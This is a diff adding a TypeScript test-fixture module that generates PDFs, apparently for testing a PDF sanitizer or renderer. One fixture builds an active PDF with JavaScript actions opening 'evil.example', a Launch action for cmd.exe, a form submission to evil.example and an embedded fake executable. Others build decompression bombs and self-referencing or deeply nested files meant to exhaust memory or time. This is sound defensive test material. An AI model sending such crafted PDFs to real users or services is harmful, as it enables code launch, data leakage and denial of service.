@@ -1,0 +1,146 @@
+import { deflateSync } from 'node:zlib';
+import { type PDFDict, PDFDocument, PDFName, type PDFObject, PDFString, StandardFonts } from '@cantoo/pdf-lib';
+
+/** PDFs as teams have them, and as attackers make them. */
+
+const name = PDFName.of;
+type Values = { [key: string]: Values | Values[] | string | number | PDFObject };
+
+/** A4, in points. */
+const usual: [number, number] = [595, 842];
+
+/** The first page says `text`, the others their number. */
+export async function aPdf({ text = 'A poster about clean water', pages = 1, size = usual } = {}): Promise<Buffer> {
+  return bytesOf(await aDocument({ text, pages, size }));
+}
+
+async function aDocument({ text = 'A poster', pages = 1, size = usual } = {}): Promise<PDFDocument> {
+  const document = await PDFDocument.create();
+  const font = await document.embedFont(StandardFonts.Helvetica);
+  for (let number = 1; number <= pages; number += 1) {
+    document.addPage(size).drawText(number === 1 ? text : `Page ${number}`, { x: 40, y: size[1] - 80, size: 30, font });
+  }
+  return document;
+}
+
+async function bytesOf(document: PDFDocument): Promise<Buffer> {
+  return Buffer.from(await document.save());
+}
+
+/** What a PDF may do by itself or when it is clicked, and what it may tell about its author. */
+export async function anActivePdf(): Promise<Buffer> {
+  const document = await aDocument({ text: 'An active poster' });
+  const { context, catalog } = document;
+  const page = document.getPage(0).node;
+  const script: Values = { Type: 'Action', S: 'JavaScript', JS: PDFString.of("app.launchURL('https://evil.example')") };
+  document.setAuthor('Secret Author');
+  document.setProducer('Secret Producer');
+  document.addJavaScript('start', "app.alert('hello')");
+  await document.attach(Buffer.from('MZ evil'), 'evil.exe', { mimeType: 'application/x-msdownload' });
+  const set = (dict: PDFDict, key: string, value: Values) =>
+    dict.set(name(key), context.register(context.obj(value as { [key: string]: PDFObject })));
+  set(catalog, 'OpenAction', script);
+  set(catalog, 'AA', { WC: script });
+  set(catalog, 'AcroForm', { Fields: [], XFA: PDFString.of('<xdp/>') });
+  set(catalog, 'Metadata', { Type: 'Metadata', Author: PDFString.of('Secret Author') });
+  set(page, 'AA', { O: script });
+  set(page, 'PieceInfo', { Illustrator: { Private: PDFString.of('Secret draft') } });
+  const annotation = (Subtype: string, more: Values) =>
+    context.register(context.obj({ Type: 'Annot', Subtype, Rect: [0, 0, 500, 500], ...more } as { [key: string]: PDFObject }));
+  const actions: Values[] = [
+    { S: 'URI', URI: PDFString.of('https://evil.example') },
+    { S: 'Launch', F: PDFString.of('cmd.exe') },
+    { S: 'SubmitForm', F: PDFString.of('https://evil.example') },
+    { S: 'GoToR', F: PDFString.of('other.pdf') },
+    script,
+  ];
+  const links = actions.map((A) => annotation('Link', { A }));
+  page.set(name('Annots'), context.obj([...links, annotation('RichMedia', {}), annotation('FileAttachment', {})]));
+  // What it hides among that which says how a page looks.
+  const resources = page.Resources() as PDFDict;
+  set(resources, 'Properties', { JS: script, MC0: { ...script, AF: script } });
+  set(resources, 'ExtGState', { GS0: { ...script, AA: script, A: script } });
+  return bytesOf(document);
+}
+
+/** A PDF that only opens with a password, or that opens without one but restricts its use. */
+export async function aLockedPdf(passwords: { userPassword?: string; ownerPassword: string }): Promise<Buffer> {
+  const document = await aDocument();
+  document.encrypt({ userPassword: '', ...passwords });
+  return bytesOf(document);
+}
+
+/** A PDF of one page whose content, resources and further objects are given as text of the format. */
+export function aRawPdf(content: string | Buffer, resources: string, objects: readonly (string | Buffer)[] = []): Buffer {
+  const own = [
+    '<</Type/Catalog/Pages 2 0 R>>',
+    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
+    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<${resources}>>>>`,
+    typeof content === 'string' ? stream('', content) : content,
+  ];
+  const parts = [...own, ...objects].flatMap((object, index) => [`${index + 1} 0 obj\n`, object, '\nendobj\n']);
+  return Buffer.concat([
+    Buffer.from('%PDF-1.7\n'),
+    ...parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
+    Buffer.from('trailer<</Root 1 0 R>>\n%%EOF\n'),
+  ]);
+}
+
+/** The number of the first of the further objects of `aRawPdf`. */
+const first = 5;
+
+function stream(keys: string, body: string | Buffer): Buffer {
+  const bytes = Buffer.from(body);
+  return Buffer.concat([Buffer.from(`<<${keys}/Length ${bytes.length}>>stream\n`), bytes, Buffer.from('\nendstream')]);
+}
+
+/** Files of which each asks for time or memory without end. */
+export const bombs: Record<string, () => Buffer> = {
+  'drawings that draw each other ten times, twelve deep': () => {
+    const depth = 12;
+    const forms = Array.from({ length: depth }, (_, level) => {
+      const inner = level === depth - 1 ? '' : `/Resources<</XObject<</X ${first + level + 1} 0 R>>>>`;
+      const content = level === depth - 1 ? '0 0 600 800 re f' : '/X Do '.repeat(10);
+      return stream(`/Type/XObject/Subtype/Form/BBox[0 0 600 800]${inner}`, content);
+    });
+    return aRawPdf('/X Do', `/XObject<</X ${first} 0 R>>`, forms);
+  },
+  'a colour that takes ten thousand steps to find, for each pixel': () => {
+    const steps = `{${'dup mul 0.5 add '.repeat(10_000)}pop dup 0 exch}`;
+    return aRawPdf(
+      '/S sh',
+      `/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Matrix[600 0 0 800 0 0]/Function ${first} 0 R>>>>`,
+      [stream('/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]', steps)],
+    );
+  },
+  'ten million lines': () => {
+    const lines = deflateSync(Buffer.alloc(180 * 1024 * 1024, '0 0 m 600 800 l S\n'), { level: 1 });
+    return aRawPdf(stream('/Filter/FlateDecode', lines), '');
+  },
+  'a picture of 900 megapixels in a few hundred KB': () => {
+    const rows = deflateSync(Buffer.alloc(200 * 1024 * 1024), { level: 1 });
+    const picture = stream(
+      '/Type/XObject/Subtype/Image/Width 30000/Height 30000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode',
+      rows,
+    );
+    return aRawPdf('600 0 0 800 0 0 cm /X Do', `/XObject<</X ${first} 0 R>>`, [picture]);
+  },
+  'objects that unpack to gigabytes': () => {
+    const once = deflateSync(Buffer.alloc(512 * 1024 * 1024, ' '), { level: 1 });
+    const twice = deflateSync(Buffer.concat(Array.from({ length: 8 }, () => once)));
+    return aRawPdf('', '', [stream('/Type/ObjStm/N 1/First 8/Filter[/FlateDecode/FlateDecode]', twice)]);
+  },
+};
+
+/** Files that must be neither drawn nor waited for. */
+export const oddPdfs: Record<string, () => Buffer> = {
+  'lists in lists, a million deep': () => aRawPdf('', '', ['['.repeat(1_000_000) + ']'.repeat(1_000_000)]),
+  'pages that contain themselves': () =>
+    Buffer.from(
+      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>',
+    ),
+  'no page': () =>
+    Buffer.from(
+      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>',
+    ),
+};
